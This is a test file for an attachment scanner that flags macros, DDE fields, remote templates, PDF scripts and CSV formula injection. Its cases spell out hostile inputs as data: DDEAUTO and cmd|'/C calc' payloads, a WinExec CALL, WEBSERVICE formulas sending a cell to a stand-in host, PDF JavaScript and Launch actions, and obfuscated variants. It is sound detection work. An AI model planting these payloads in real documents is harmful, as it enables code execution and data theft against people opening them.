import { deflateSync, gzipSync } from 'node:zlib'
import { expect } from 'chai'
import examine, { type ExaminedFormat } from '../../../server/business/contract/attachments/examination/examine.task.ts'
import { OFFICE_LIMITS } from '../../../server/business/contract/attachments/examination/office.ts'
import { docxBytes, docxEntries, pdfBytes, xlsxBytes, xlsxEntries } from '../../support/attachments/files.ts'
import { type EntryToZip, zipOf } from '../../support/attachments/zip.ts'

const codesIn = async (format: ExaminedFormat, bytes: Buffer): Promise<string[]> =>
  (await examine({ format, bytes })).findings.map(({ code }) => code)
const codesOf = (...entries: readonly EntryToZip[]) => codesIn('zip', zipOf(entries))
const kindOf = async (entries: readonly EntryToZip[]) =>
  (await examine({ format: 'zip', bytes: zipOf(entries) })).officeKind

const relationship = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const windowsProgram = Buffer.alloc(200)
windowsProgram.write('MZ')
windowsProgram.writeUInt32LE(128, 60)
windowsProgram.write('PE\0\0', 128)
const compoundFile = (stream: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(stream, 'utf16le')])

describe('an office document', () => {
  it('is told by its main part, and is neither with none or both', async () => {
    expect(await kindOf(docxEntries())).to.equal('docx')
    expect(await kindOf(xlsxEntries())).to.equal('xlsx')
    expect(await kindOf([{ name: 'word/document.xml', content: '<d/>' }])).to.equal(null)
    expect(await kindOf(docxEntries({ name: 'xl/workbook.xml', content: '<w/>' }))).to.equal(null)
    expect(await kindOf([{ name: '[Content_Types].xml', content: '<t/>' }])).to.equal(null)
  })

  it('may have pictures, links to click, a workbook behind a chart and a formula of a formula editor', async () => {
    const equation = { name: 'word/embeddings/oleObject1.bin', content: compoundFile('Equation Native') }
    const entries = docxEntries(
      { name: 'word/media/image1.png', content: Buffer.from('89504e47', 'hex') },
      { name: 'word/embeddings/chart1.xlsx', content: xlsxBytes() },
      { name: 'word/_rels/document.xml.rels', content: relationship('hyperlink', 'https://example.org/') },
      {
        name: 'word/_rels/settings.xml.rels',
        content: relationship('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
      },
      equation,
    )
    expect(await codesOf(...entries)).to.deep.equal([])
  })

  it('may have 5,000 parts and not one more', async () => {
    const parts = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `p/${index}` }))
    expect(await codesOf(...parts(OFFICE_LIMITS.entries))).to.deep.equal([])
    expect(await codesOf(...parts(OFFICE_LIMITS.entries + 1))).to.deep.equal(['attachment.archive-entries'])
  })

  it('may be dense while it is small', async () => {
    const part = (count: number) => ({ name: 'a.txt', content: 'x'.repeat(count) })
    expect(await codesOf(part(900_000))).to.deep.equal([])
    expect(await codesOf(part(1_100_000))).to.deep.equal(['attachment.archive-ratio'])
  })

  it('has no macros, dialog sheets or controls, not in an embedded object either', async () => {
    for (const name of [
      'word/vbaProject.bin',
      'xl/VBAPROJECT.BIN',
      'xl/macrosheets/s1.xml',
      'word/activeX/activeX1.xml',
    ])
      expect(await codesOf({ name }), name).to.deep.equal(['attachment.macros'])
    const content = compoundFile('_VBA_PROJECT')
    expect(await codesOf({ name: 'xl/embeddings/oleObject1.bin', content })).to.deep.equal(['attachment.macros'])
  })

  it('has no archive in it, by whatever name', async () => {
    for (const name of ['a.zip', 'b/C.RAR', 'x.tar.gz', 'word/embeddings/a.7z', 'inner.docx', 'word/embeddings/a.xlsm'])
      expect(await codesOf({ name }), name).to.deep.equal(['attachment.archive-nested'])
    for (const content of [docxBytes(), gzipSync('x'), Buffer.from('Rar!\u001a\u0007\u0000', 'latin1')])
      expect(await codesOf({ name: 'word/media/image1.png', content })).to.deep.equal(['attachment.archive-nested'])
  })

  it('is looked into where one is embedded, and has no third in that', async () => {
    const embedded = (content: Buffer) => ({ name: 'xl/embeddings/inner.xlsx', content })
    const inner = xlsxBytes({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink/></externalLink>',
    })
    expect(await codesOf(embedded(inner))).to.deep.equal(['attachment.dde'])
    expect(await codesOf(embedded(xlsxBytes(embedded(xlsxBytes()))))).to.deep.equal(['attachment.archive-nested'])
    const bomb = xlsxBytes({ name: 'a.bin', content: Buffer.alloc(3_000_000) })
    expect(await codesOf(embedded(bomb))).to.deep.equal(['attachment.archive-ratio'])
  })

  it('has no program in it, plain or packaged as an object', async () => {
    const program = ['attachment.embedded-program']
    expect(await codesOf({ name: 'word/media/image1.png', content: windowsProgram })).to.deep.equal(program)
    const content = compoundFile('\u0001Ole10Native')
    expect(await codesOf({ name: 'word/embeddings/oleObject1.bin', content })).to.deep.equal(program)
  })

  it('fetches nothing from elsewhere when it is opened', async () => {
    const name = 'word/_rels/settings.xml.rels'
    for (const [type, target] of [
      ['attachedTemplate', 'http://192.0.2.1/a.dotm'],
      ['attachedTemplate', '\\\\192.0.2.1\\share\\a.dotm'],
      ['attachedTemplate', 'file://server/share/a.dotm'],
      ['image', 'https://192.0.2.1/pixel.png'],
      ['oleObject', 'mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html'],
      ['frame', '//192.0.2.1/x'],
    ] as const)
      expect(await codesOf({ name, content: relationship(type, target) }), target).to.deep.equal([
        'attachment.remote-content',
      ])
    const prefixed =
      '<r:Relationships xmlns:r="r"><r:Relationship Type="x/image" Target="http&#58;//a/b" TargetMode="external"/></r:Relationships>'
    expect(await codesOf({ name, content: prefixed })).to.deep.equal(['attachment.remote-content'])
    const wide = Buffer.from(
      `\ufeff${relationship('image', 'http://a/b').replace('?>', ' encoding="UTF-16"?>')}`,
      'utf16le',
    )
    expect(await codesOf({ name, content: wide })).to.deep.equal(['attachment.remote-content'])
  })

  it('starts no other program by a field or a link, however the field is cut up', async () => {
    const name = 'word/document.xml'
    const run = (code: string) => `<w:r><w:instrText>${code}</w:instrText></w:r>`
    for (const body of [
      run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
      `${run(' DD')}${run('E')}${run('AUTO cmd ')}`,
      '<w:fldSimple w:instr=" DDE excel a b "/>',
    ])
      expect(await codesOf({ name, content: `<w:document>${body}</w:document>` }), body).to.deep.equal([
        'attachment.dde',
      ])
    expect(await codesOf({ name, content: `<w:document>${run(' PAGE ')}</w:document>` })).to.deep.equal([])
    const link = '<externalLink><oleLink progId="x"/></externalLink>'
    expect(await codesOf({ name: 'xl/externalLinks/externalLink1.xml', content: link })).to.deep.equal([
      'attachment.dde',
    ])
  })

  it('hides no field in a part of another name, nor in a section of characters', async () => {
    const run = '<w:document><w:instrText><![CDATA[ DDEAUTO cmd ]]></w:instrText></w:document>'
    for (const name of ['word/document.xml', 'word/document2.dat', 'word/media/a.png'])
      expect(await codesOf({ name, content: run }), name).to.deep.equal(['attachment.dde'])
    expect(await codesOf({ name: 'word/a.bin', content: Buffer.from(`\ufeff\n ${run}`, 'utf16le') })).to.deep.equal([
      'attachment.dde',
    ])
    const picture = '<!DOCTYPE svg><svg><text>DDE</text></svg>'
    expect(await codesOf({ name: 'word/media/a.svg', content: picture })).to.deep.equal([])
  })

  it('fetches nothing by a field or a formula, nor starts anything by one', async () => {
    const field = (code: string) =>
      codesOf({ name: 'word/document.xml', content: `<d><instrText>${code}</instrText></d>` })
    for (const code of [
      ' INCLUDEPICTURE "http://192.0.2.1/a.png" \\d ',
      ' INCLUDEPICTURE \\d "https://a/b" ',
      ' INCLUDETEXT "\\\\\\\\192.0.2.1\\\\a.docx" ',
      ' LINK Excel.Sheet.12 "\\\\\\\\a\\\\b.xlsx" R1C1 \\a ',
      ' includepicture file://server/a.png ',
    ])
      expect(await field(code), code).to.deep.equal(['attachment.remote-content'])
    for (const code of [
      ' HYPERLINK "https://example.org/" ',
      ' INCLUDEPICTURE "media/a.png" \\* MERGEFORMAT ',
      ' INCLUDEPICTURE "file:///C:\\\\a.png" ',
      ' TOC \\o "1-3" \\h ',
      ' PAGEREF _Toc1 \\h ',
    ])
      expect(await field(code), code).to.deep.equal([])
    const cell = (formula: string) =>
      codesOf({ name: 'xl/worksheets/sheet1.xml', content: `<s><c><f>${formula}</f><v>1</v></c></s>` })
    for (const formula of ['_xlfn.WEBSERVICE("http://a/?"&amp;A1)', '_xlfn.IMAGE("http://a")', 'if(1,image ("x"),0)'])
      expect(await cell(formula), formula).to.deep.equal(['attachment.remote-content'])
    for (const formula of ["cmd|'/C calc'!A0", 'CALL("kernel32","WinExec","JCJ","calc",0)', 'RTD("x",,"y")'])
      expect(await cell(formula), formula).to.deep.equal(['attachment.dde'])
    for (const formula of [
      'SUM(A1:A9)',
      'IF(A1>0,"CALL",""&B1)'.replaceAll('&', '&amp;').replaceAll('>', '&gt;'),
      'IMAGINARY(A1)',
    ])
      expect(await cell(formula), formula).to.deep.equal([])
  })

  it('is damaged where a part is not well-formed or brings entities of its own', async () => {
    for (const content of [
      '<a>',
      '<a></b>',
      '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
      'plain',
      Buffer.from([0xff, 0x3c]),
    ])
      expect(await codesOf({ name: 'word/document.xml', content }), String(content)).to.deep.equal([
        'attachment.damaged',
      ])
  })

  it('is refused in the zip64 format, encrypted, or with something after it', async () => {
    const locator = Buffer.concat([Buffer.from('504b0607', 'hex'), Buffer.alloc(16)])
    const whole = docxBytes()
    const zip64 = Buffer.concat([whole.subarray(0, -22), locator, whole.subarray(-22)])
    expect(await codesIn('zip', zip64)).to.deep.equal(['attachment.archive-zip64'])
    expect(await codesOf({ name: 'a.xml', flags: 1 })).to.deep.equal(['attachment.archive-encrypted'])
    expect(await codesIn('zip', Buffer.concat([whole, Buffer.from('x')]))).to.deep.equal(['attachment.damaged'])
  })
})

describe('a PDF', () => {
  const inPdf = (insert: string) => codesIn('pdf', pdfBytes(insert))
  const stream = (dictionary: string, data: Buffer) =>
    `>> endobj 9 0 obj << ${dictionary} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream endobj 10 0 obj <<`
  const objects = (content: string, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
    inPdf(stream(dictionary, deflateSync(Buffer.from(content, 'latin1'))))

  it('runs, starts, submits, fetches and scripts nothing, plain or escaped', async () => {
    for (const insert of [
      '/OpenAction << /S /Launch /F (x) >>',
      '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
      '/AA << /O << /S /J#61va#53cript >> >>',
      '/A << /S /GoToE/D [0] >>',
      '/A << /S /GoToR /F (\\\\\\\\server\\\\a.pdf) >>',
      '/A << /S /SubmitForm /F (http://192.0.2.1/) >>',
      '/A << /S /ImportData >>',
      '/AcroForm << /XFA [(template) 5 0 R] >>',
      '/Annots [<< /Subtype /RichMedia >>]',
      '/A << /S /Rendition /JS 5 0 R >>',
    ])
      expect(await inPdf(insert), insert).to.deep.equal(['attachment.pdf-action'])
  })

  it('is looked into where its objects are packed', async () => {
    expect(await objects('5 0 << /S /JavaScript /JS (x) >>')).to.deep.equal(['attachment.pdf-action'])
    expect(await objects('5 0 << /S /Java#53cript >>', '/Type/Obj#53tm/Filter[/Fl]')).to.deep.equal([
      'attachment.pdf-action',
    ])
    expect(await objects('5 0 << /Type /Page >>')).to.deep.equal([])
  })

  it('is refused where packed objects cannot be looked into', async () => {
    const unreadable = ['attachment.pdf-unreadable']
    expect(await objects('x', '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]')).to.deep.equal(unreadable)
    expect(await objects('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')).to.deep.equal(
      unreadable,
    )
    expect(await inPdf(stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('broken')))).to.deep.equal(unreadable)
    expect(await objects('0'.repeat(21 * 2 ** 20))).to.deep.equal(unreadable)
    const encrypted = await objects('x', '/Type /ObjStm /Filter /FlateDecode /Encrypt 5 0 R')
    expect(encrypted).to.deep.equal(['attachment.archive-encrypted'])
    const wholly = await codesIn('pdf', pdfBytes('/Encrypt 5 0 R /Names << /Embedded#46iles 6 0 R >>'))
    expect(wholly).to.deep.equal(['attachment.archive-encrypted'])
    expect(await inPdf('/Encrypt 5 0 R')).to.deep.equal([])
    expect(await inPdf('/Encrypt 5 0 R /OpenAction << /S /JavaScript /JS 7 0 R >>')).to.deep.equal([
      'attachment.pdf-action',
    ])
  })

  it('hides no packed objects behind a long or misleading dictionary, nor by not naming them', async () => {
    const script = '5 0 << /S /JavaScript /JS (x) >>'
    const packed = '/Type /ObjStm /N 1 /First 4'
    const filter = '/Filter /FlateDecode'
    for (const dictionary of [
      `${packed} % ${'x'.repeat(70_000)}\n ${filter}`,
      `${packed} /Note (7 0 obj) ${filter}`,
      `${packed} % 7 0 obj\n ${filter}`,
    ])
      expect(await objects(script, dictionary), dictionary.slice(0, 60)).to.deep.equal(['attachment.pdf-unreadable'])
    expect(await objects(script, `${packed} % ${'x'.repeat(5_000)}\n ${filter}`)).to.deep.equal([
      'attachment.pdf-action',
    ])
    const plain = stream('/Type /ObjStm /N 1 /First 4', Buffer.from('5 0 << /Note (a stream of steam) >>'))
    const hidden = stream(`${packed} /Note (7 0 obj) ${filter}`, deflateSync(Buffer.from(script)))
    expect(await inPdf(`${plain} >> endobj 11 0 obj << ${hidden}`)).to.deep.equal(['attachment.pdf-unreadable'])
    expect(await objects(script, `/N 1 /First 4 ${filter}`)).to.deep.equal(['attachment.pdf-action'])
    const twice = stream('/Type /ObjStm /Filter [/Fl /Fl]', deflateSync(deflateSync(Buffer.from(script))))
    expect(await inPdf(twice)).to.deep.equal(['attachment.pdf-unreadable'])
  })

  it('hides no packed objects by a dictionary that two readers take in two ways', async () => {
    const script = '5 0 << /S /JavaScript /JS (x) >>'
    const unreadable = ['attachment.pdf-unreadable']
    const unnamed = '/N 1 /First 4'
    for (const dictionary of [
      // No name, and an object that seems to begin in the middle.
      `${unnamed} /Filter /FlateDecode /Note (7 0 obj)`,
      `${unnamed} /Filter /FlateDecode /Note (7 0 obj << >>`,
      `${unnamed} /Filter /FlateDecode /Note <<`,
      // The first or the last of two entries counts.
      `${unnamed} /Filter /FlateDecode /F#69lter /RunLengthDecode`,
      `${unnamed} /Filter /RunLengthDecode /Filter /FlateDecode`,
      // Where the bytes are made into others afterwards, or by what stands elsewhere.
      `${unnamed} /Filter /FlateDecode /DecodeParms 7 0 R`,
      `${unnamed} /Filter /FlateDecode /DecodeParms [<< /Predictor%\n12 /Columns 5 >>]`,
      `${unnamed} /Filter /FlateDecode /DP << /#50redictor 12 >>`,
      `${unnamed} /Filter 7 0 R`,
    ])
      expect(await objects(script, dictionary), dictionary).to.deep.equal(unreadable)
    const misleadingHex = stream(`${unnamed} /Filter [/ASCIIHexDecode] /Note (7 0 obj)`, Buffer.from('352030203c3c'))
    expect(await inPdf(misleadingHex)).to.deep.equal(unreadable)
    for (const dictionary of [
      `${unnamed} /Filter /FlateDecode /Note (stream) /DecodeParms null`,
      `${unnamed} /Filter [ /FlateDecode ] /DecodeParms [ << /Predictor 1 >> ]`,
    ])
      expect(await objects(script, dictionary), dictionary).to.include('attachment.pdf-action')
  })

  it('hides no action by blanks that only PDF has, nor by a length that is wrong, nor in a later version of the file', async () => {
    const script = '5 0 << /S /JavaScript /JS (x) >>'
    for (const insert of [
      '/AA << /S/JavaScript\0/JS (x) >>',
      '/AA << /S%\0\n/Java#53cript\f/JS (x) >>',
      '/AcroForm << /XFA%\n5 0 R >>',
      '/AcroForm << /XFA\0[5 0 R] >>',
      '/A << /S /Movie /T (x) >>',
      '/A << /S /Thread /F (x) >>',
      '/3DV << /OnInstantiate 5 0 R >>',
    ])
      expect(await inPdf(insert), JSON.stringify(insert)).to.deep.equal(['attachment.pdf-action'])
    const packed = deflateSync(Buffer.from(script)).toString('latin1')
    for (const length of ['0', '3', '99999', '7 0 R'])
      expect(
        await inPdf(
          `>> endobj 9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${length}>>stream\r\n${packed}endstream endobj 10 0 obj <<`,
        ),
        length,
      ).to.deep.equal(['attachment.pdf-action'])
    const update = `8 0 obj << /S /J#61vaScript /JS (x) >> endobj trailer << /Root 1 0 R /Prev 9 >>\n%%EOF\n`
    expect(await codesIn('pdf', Buffer.concat([pdfBytes(), Buffer.from(update)]))).to.deep.equal([
      'attachment.pdf-action',
    ])
  })

  it('takes no bytes of a stream from another file', async () => {
    for (const entry of ['/F (http://192.0.2.1/a)', '/F << /FS /URL /F (http://192.0.2.1/) >>', '/FFilter /Fl'])
      expect(await inPdf(stream(entry, Buffer.from(''))), entry).to.deep.equal(['attachment.remote-content'])
  })

  it('has no archive or program as a stream that does not say it is a file, nor behind empty blocks or odd packing', async () => {
    const flate = '/Filter /FlateDecode'
    expect(await inPdf(stream(flate, deflateSync(docxBytes())))).to.deep.equal(['attachment.archive-nested'])
    expect(await inPdf(stream('/Subtype /x', windowsProgram))).to.deep.equal(['attachment.embedded-program'])
    const whole = deflateSync(docxBytes())
    const emptyBlocks = Buffer.from('000000ffff'.repeat(5_000), 'hex')
    const late = Buffer.concat([whole.subarray(0, 2), emptyBlocks, whole.subarray(2)])
    expect(await inPdf(stream(`/Type /EmbeddedFile ${flate}`, late))).to.deep.equal(['attachment.archive-nested'])
    const hex = Buffer.from(`${docxBytes().toString('hex')}>`)
    expect(await inPdf(stream('/Type /EmbeddedFile /Filter /ASCIIHexDecode', hex))).to.deep.equal([
      'attachment.pdf-unreadable',
    ])
    const picture = Buffer.concat([Buffer.from('1f8b08', 'hex'), Buffer.alloc(600)])
    expect(await inPdf(stream(flate, deflateSync(picture)))).to.deep.equal([])
  })

  it('may carry data as electronic invoices do, and no archive or program', async () => {
    const file = (content: Buffer) => inPdf(stream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(content)))
    expect(await file(Buffer.from('<invoice/>'))).to.deep.equal([])
    expect(await file(docxBytes())).to.deep.equal(['attachment.archive-nested'])
    expect(await file(windowsProgram)).to.deep.equal(['attachment.embedded-program'])
  })

  it('may have what only looks like an action', async () => {
    expect(await inPdf('/Title (Launch) /LaunchPad 5 /AcroForm << /Fields [] >> /Names << >>')).to.deep.equal([])
    expect(await codesIn('pdf', pdfBytes().subarray(0, 150))).to.deep.equal(['attachment.damaged'])
  })
})

describe('a CSV', () => {
  const csv = (text: string) => codesIn('csv', Buffer.from(text))

  it('has no cell that calls a program or a function', async () => {
    for (const text of [
      "a,=cmd|' /C calc'!A0",
      'a\n"+cmd|\' /C calc\'!A0"',
      'a;@SUM(1+1)*cmd',
      '=HYPERLINK("http://a/?"&A1)',
      '\u200b=WEBSERVICE("http://a")',
      '＝IMPORTXML("http://a")',
    ])
      expect(await csv(text), text).to.deep.equal(['attachment.dde'])
  })

  it('may have negative numbers, dashes and sums of fixed numbers', async () => {
    expect(await csv('指标,值\n温度,-40\n公差,+0.05\n备注,-\n合计,=1+2\n"说明 (a|b)",x')).to.deep.equal([])
  })
})
